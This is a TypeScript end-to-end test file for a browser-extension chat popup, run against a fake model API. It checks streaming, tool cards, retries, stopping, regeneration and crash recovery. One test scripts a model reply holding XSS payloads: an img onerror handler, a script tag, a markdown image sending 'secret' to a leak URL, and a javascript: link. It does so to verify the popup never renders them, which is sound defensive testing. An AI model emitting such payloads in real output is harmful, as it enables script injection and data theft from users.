import fs from 'node:fs/promises';
import path from 'node:path';
import { afterAll, beforeAll, beforeEach, describe, expect, it } from 'vitest';
import type { BrowserName, ExtensionBrowser } from '../harness/browsers';
import { FakeAnthropic, gate, text, toolCall } from '../harness/fake-anthropic';
import { FixtureServer } from '../harness/fixture-server';
import { PopupPage, setSettings } from '../harness/popup';
import { sharedBrowser } from '../harness/shared-browser';
import { createBuiltinRegistry } from '../../lib/tools';

const browsers: BrowserName[] = ['chromium', 'firefox'];
// Written to .output (never to the tracked docs/ copy: a clean clone stays clean after testing);
// `npm run docs:screenshots` copies it into docs/.
const SCREENSHOT = path.resolve(import.meta.dirname, '../../.output/screenshots/popup.png');

describe.each(browsers)('popup chat in %s', (name) => {
  const fake = new FakeAnthropic();
  const fixtures = new FixtureServer();
  let ext: ExtensionBrowser;
  let popup: PopupPage;

  beforeAll(async () => {
    await Promise.all([fake.start(), fixtures.start()]);
  });
  afterAll(async () => {
    await Promise.all([fake.stop(), fixtures.stop()]);
  });
  sharedBrowser(name, {
    async onLaunch(e) {
      ext = e;
      popup = await PopupPage.open(ext);
      await setSettings(popup.page, { apiKey: 'test-key', baseUrl: fake.url, model: 'fake-model' });
    },
  });

  beforeEach(async () => {
    fake.reset();
    // Each test starts from a fresh popup on a new chat, whatever the previous one left behind.
    if (!popup.page.isClosed()) await popup.close().catch(() => {});
    popup = await PopupPage.open(ext);
    await setSettings(popup.page, { apiKey: 'test-key', baseUrl: fake.url, roundCap: 50 });
    await popup.newChat();
  });

  it('streams an answer, shows the tool card and the live task list', async () => {
    fake.script(
      { ...toolCall('create_task', { subject: 'Read the fixture page', description: 'at 127.0.0.1' }), delayMs: 5 },
      toolCall('update_task', { task_id: '1', status: 'in_progress' }),
      { ...text('I have **planned** the work:\n\n- read the page\n- summarise it'), delayMs: 10, chunk: 4 },
    );
    await popup.send('Plan reading the fixture page');
    await popup.waitForAssistantText('planned the work');
    await popup.idle();

    expect(await popup.text('[data-role="user"]')).toContain('Plan reading the fixture page');
    expect(await popup.page.$eval('[data-role="assistant"] strong', (el) => el.textContent)).toBe('planned');
    const cards = await popup.page.$$eval('details[data-tool]', (els) =>
      els.map((el) => ({ tool: el.getAttribute('data-tool'), status: el.getAttribute('data-status') })),
    );
    expect(cards).toEqual([
      { tool: 'create_task', status: 'done' },
      { tool: 'update_task', status: 'done' },
    ]);
    if (name === 'chromium') {
      await fs.mkdir(path.dirname(SCREENSHOT), { recursive: true });
      await popup.page.screenshot({ path: SCREENSHOT });
    }
    await popup.page.click('details[data-tool="create_task"] summary');
    expect(await popup.text('details[data-tool="create_task"] .args')).toContain('"subject": "Read the fixture page"');
    expect(await popup.text('details[data-tool="create_task"] .result')).toContain('"task_id":"1"');

    expect(await popup.text('section[aria-label="Tasks"] li[data-task-id="1"]')).toMatch(/Read the fixture page.*in progress/);
    expect(await popup.text('[data-usage]')).toMatch(/Tokens: \d+ in · \d+ out · \d+ cached/);

    // The model saw every built-in tool (the unit tests check the list), with its JSON schema, and the tool results.
    const [first, second] = fake.requests;
    expect(first!.body.tools.map((t: { name: string }) => t.name)).toEqual(createBuiltinRegistry().names());
    expect(first!.body.tools.find((t: { name: string }) => t.name === 'create_task').input_schema).toMatchObject({ type: 'object', required: ['subject'] });
    expect(second!.body.messages.at(-1).content[0]).toMatchObject({ type: 'tool_result' });
  });

  it('shows the current conversation quickly when the popup opens', async () => {
    fake.script(text('Remembered.'));
    await popup.send('Remember this conversation');
    await popup.waitForAssistantText('Remembered.');
    await popup.idle();
    const samples: number[] = [];
    for (let i = 0; i < 5; i++) {
      await popup.close();
      popup = await PopupPage.open(ext);
      await popup.waitForAssistantText('Remembered.');
      samples.push(await popup.page.evaluate(() => window.__pagewrightShownMs ?? -1));
    }
    samples.sort((a, b) => a - b);
    const shownMs = samples[2]!;
    console.log(
      `[metric] ${name}: popup shows the current conversation ${shownMs.toFixed(0)} ms after it opens ` +
        `(median of 5, from navigation start; min ${samples[0]!.toFixed(0)}, max ${samples[4]!.toFixed(0)}; target ≤ 150 ms)`,
    );
    expect(shownMs).toBeGreaterThan(0);
  });

  it('keeps running when the popup closes and re-attaches when it reopens', async () => {
    const g = gate();
    fake.script(
      toolCall('create_task', { subject: 'Survive the popup closing' }),
      { ...text('First half of the answer. Second half arrives after the popup reopened.'), chunk: 6, pause: { afterEvents: 6, gate: g } },
    );
    await popup.send('Work while I close the popup');
    await popup.waitForAssistantText('First half');
    await popup.close();

    popup = await PopupPage.open(ext);
    // The text streamed so far, the tool card and the task are back without any new request.
    await popup.waitForAssistantText('First half');
    expect(await popup.count('details[data-tool="create_task"]')).toBe(1);
    expect(await popup.text('section[aria-label="Tasks"]')).toContain('Survive the popup closing');
    expect(await popup.count('button[aria-label="Stop"]')).toBe(1);
    g.open();
    await popup.waitForAssistantText('after the popup reopened.');
    await popup.idle();
    expect(fake.requests).toHaveLength(2);
  });

  it('stops a run at once', async () => {
    const g = gate();
    fake.script({ ...text('Streaming until you press stop, and never further.'), chunk: 5, pause: { afterEvents: 5, gate: g } });
    await popup.send('Go on forever');
    await popup.waitForAssistantText('Streaming');
    await popup.page.click('button[aria-label="Stop"]');
    await popup.waitFor('[data-banner="stopped"]', 5000);
    await popup.idle();
    expect(fake.requests[0]!.aborted).toBe(true);
    // What was shown stays in the conversation.
    expect(await popup.text('[data-role="assistant"]')).toContain('Streaming');
    g.open();
  });

  it('retries after a 529 and shows the countdown', async () => {
    fake.script({ error: { status: 529, type: 'overloaded_error', message: 'Overloaded' } }, text('Served after the retry.'));
    await popup.send('Are you there?');
    await popup.waitFor('[data-banner="retrying"]');
    expect(await popup.text('[data-banner="retrying"]')).toMatch(/529.*Retrying in \d+ s \(attempt 1 of 5\)/);
    await popup.waitForAssistantText('Served after the retry.');
    await popup.waitForGone('[data-banner="retrying"]');
    expect(fake.requests).toHaveLength(2);
  });

  it('shows a clear banner for a bad key and does not retry', async () => {
    await setSettings(popup.page, { apiKey: 'bad-key' });
    await popup.send('Hello?');
    await popup.waitFor('[data-banner="error-auth"]');
    expect(await popup.text('[data-banner="error-auth"]')).toMatch(/API key was rejected \(401\): invalid x-api-key/);
    expect(await popup.count('[data-banner="error-auth"] button')).toBe(1);
    // A fixed time is the point: that no retry comes shows only by waiting out when one would.
    // backoffMs (lib/agent/errors.ts) puts the first retry at most 1.2 s after the error.
    await new Promise((r) => setTimeout(r, 1500));
    expect(fake.requests).toHaveLength(1);
  });

  it('keeps the conversation when the stream breaks mid-reply, and retry works', async () => {
    fake.script({ ...text('This answer breaks off in the middle of a sentence'), delayMs: 30, breakAfter: 5 }, text('The whole answer this time.'));
    await popup.send('Tell me something');
    await popup.waitFor('[data-banner="error-stream"]');
    expect(await popup.text('[data-role="user"]')).toContain('Tell me something');
    await popup.page.click('[data-banner="error-stream"] button');
    await popup.waitForAssistantText('The whole answer this time.');
    expect(fake.requests[1]!.body.messages.at(-1).content[0].text).toBe('Tell me something');
  });

  it('asks to continue at the round cap', async () => {
    await setSettings(popup.page, { roundCap: 2 });
    fake.script(toolCall('list_tasks', {}), toolCall('list_tasks', {}), text('Finished after continuing.'));
    await popup.send('Loop a little');
    await popup.waitFor('[data-banner="round-cap"]');
    expect(await popup.text('[data-banner="round-cap"]')).toContain('limit of 2 rounds');
    expect(fake.requests).toHaveLength(2);
    await popup.page.click('[data-banner="round-cap"] button');
    await popup.waitForAssistantText('Finished after continuing.');
  });

  it('never renders HTML or script from the model', async () => {
    fake.script(text('Look: <img src="x" onerror="document.title=\'pwned\'"> <script>document.title="pwned"</script> ![t](http://127.0.0.1:9/leak?d=secret) [click](javascript:alert(1))'));
    await popup.send('Say something dangerous');
    await popup.waitForAssistantText('Look:');
    await popup.idle();
    expect(await popup.count('[data-role="assistant"] img, [data-role="assistant"] script')).toBe(0);
    expect(await popup.page.evaluate(() => document.title)).not.toBe('pwned');
    expect(await popup.text('[data-role="assistant"]')).toContain('<img src="x"');
    const hrefs = await popup.page.$$eval('[data-role="assistant"] a', (as) => as.map((a) => a.getAttribute('href')));
    expect(hrefs.some((h) => h?.startsWith('javascript:'))).toBe(false);
  });

  it('regenerates the last answer', async () => {
    fake.script(text('A first answer.'), text('A better answer.'));
    await popup.send('Answer me twice');
    await popup.waitForAssistantText('A first answer.');
    await popup.idle();
    await popup.page.click('button[aria-label="Regenerate"]');
    await popup.waitForAssistantText('A better answer.');
    await popup.idle();
    expect(await popup.text('[role="log"]')).not.toContain('A first answer.');
    // The model is asked again with the conversation up to the user's message only.
    expect(fake.requests[1]!.body.messages).toHaveLength(1);
    expect(fake.requests[1]!.body.messages[0].content[0].text).toBe('Answer me twice');
  });

  it('lists, switches, renames and deletes conversations', async () => {
    fake.script(text('Answer one.'), text('Answer two.'));
    await popup.send('First topic');
    await popup.waitForAssistantText('Answer one.');
    await popup.idle();
    await popup.newChat();
    await popup.send('Second topic');
    await popup.waitForAssistantText('Answer two.');
    await popup.idle();

    await popup.page.click('button[aria-label="Conversations"]');
    await popup.waitFor('button[aria-label="Open conversation: First topic"]');
    await popup.page.click('button[aria-label="Open conversation: First topic"]');
    await popup.waitForAssistantText('Answer one.');

    await popup.page.click('button[aria-label="Rename conversation"]');
    const input = await popup.waitFor('input[aria-label="New name"]');
    await input!.click({ count: 3 });
    await popup.page.keyboard.press('Backspace');
    await input!.type('Renamed topic');
    await popup.page.keyboard.press('Enter');
    await popup.page.waitForFunction(() => document.querySelector('header h1')?.textContent === 'Renamed topic');

    popup.page.once('dialog', (d) => void d.accept());
    await popup.page.click('button[aria-label="Delete conversation"]');
    await popup.page.waitForFunction(() => document.querySelector('header h1')?.textContent !== 'Renamed topic');
    await popup.page.click('button[aria-label="Conversations"]');
    await popup.waitFor('button[aria-label="Open conversation: Second topic"]');
    expect(await popup.count('button[aria-label="Open conversation: Renamed topic"]')).toBe(0);
  });

  it.runIf(name === 'chromium')('survives the service worker being killed mid-run', async () => {
    const g = gate();
    fake.script(
      toolCall('create_task', { subject: 'Before the crash' }),
      { ...text('Halfway through when the worker dies'), chunk: 5, pause: { afterEvents: 4, gate: g } },
      text('Continued after the restart.'),
    );
    await popup.send('Do a long job');
    await popup.waitForAssistantText('Halfway');
    await ext.stopBackground();
    g.open();
    // The popup reconnects, which wakes the worker; the run is recorded as interrupted.
    await popup.waitFor('[data-banner="interrupted"]', 20_000);
    expect(await popup.text('[data-role="user"]')).toContain('Do a long job');
    expect(await popup.page.$eval('details[data-tool="create_task"]', (el) => el.getAttribute('data-status'))).toBe('done');
    await popup.page.click('[data-banner="interrupted"] button');
    await popup.waitForAssistantText('Continued after the restart.');
    // Nothing was lost: the continued request carries the user message, the tool call and its result.
    const messages = fake.requests.at(-1)!.body.messages;
    expect(messages.map((m: { role: string }) => m.role)).toEqual(['user', 'assistant', 'user']);
    expect(messages[0].content[0].text).toBe('Do a long job');
    expect(messages[2].content[0]).toMatchObject({ type: 'tool_result' });
  });
});
